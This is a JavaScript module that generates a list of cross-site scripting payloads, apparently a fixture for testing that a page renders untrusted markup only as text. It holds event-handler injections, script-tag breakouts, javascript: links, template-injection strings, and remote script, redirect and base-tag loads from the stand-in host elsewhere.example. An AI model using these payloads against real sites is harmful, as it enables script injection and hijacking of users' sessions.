/** Markup that would call `breach` if a page took it for more than text: every element times every way to call. */

const CALL = 'globalThis.breached=1;alert(1)'

const ELEMENTS = ['img', 'svg', 'iframe', 'body', 'video', 'audio', 'input', 'details', 'object', 'embed', 'marquee', 'select', 'form', 'math', 'style']
const EVENTS = ['onload', 'onerror', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart']

const attributes = ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} src=x open autofocus tabindex=0 ${event}="${CALL}">`))

const others = [
  `<script>${CALL}</script>`,
  `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `<script src="https://elsewhere.example/x.js"></script>`,
  `<link rel="stylesheet" href="https://elsewhere.example/x.css">`,
  `<img src="https://elsewhere.example/x.png">`,
  `<a href="javascript:${CALL}">link</a>`,
  `[link](javascript:${CALL})`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=https://elsewhere.example">`,
  `<base href="https://elsewhere.example/">`,
  `{@html "<img src=x onerror=${CALL}>"}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
]

export const PAYLOADS = [...others, ...attributes]
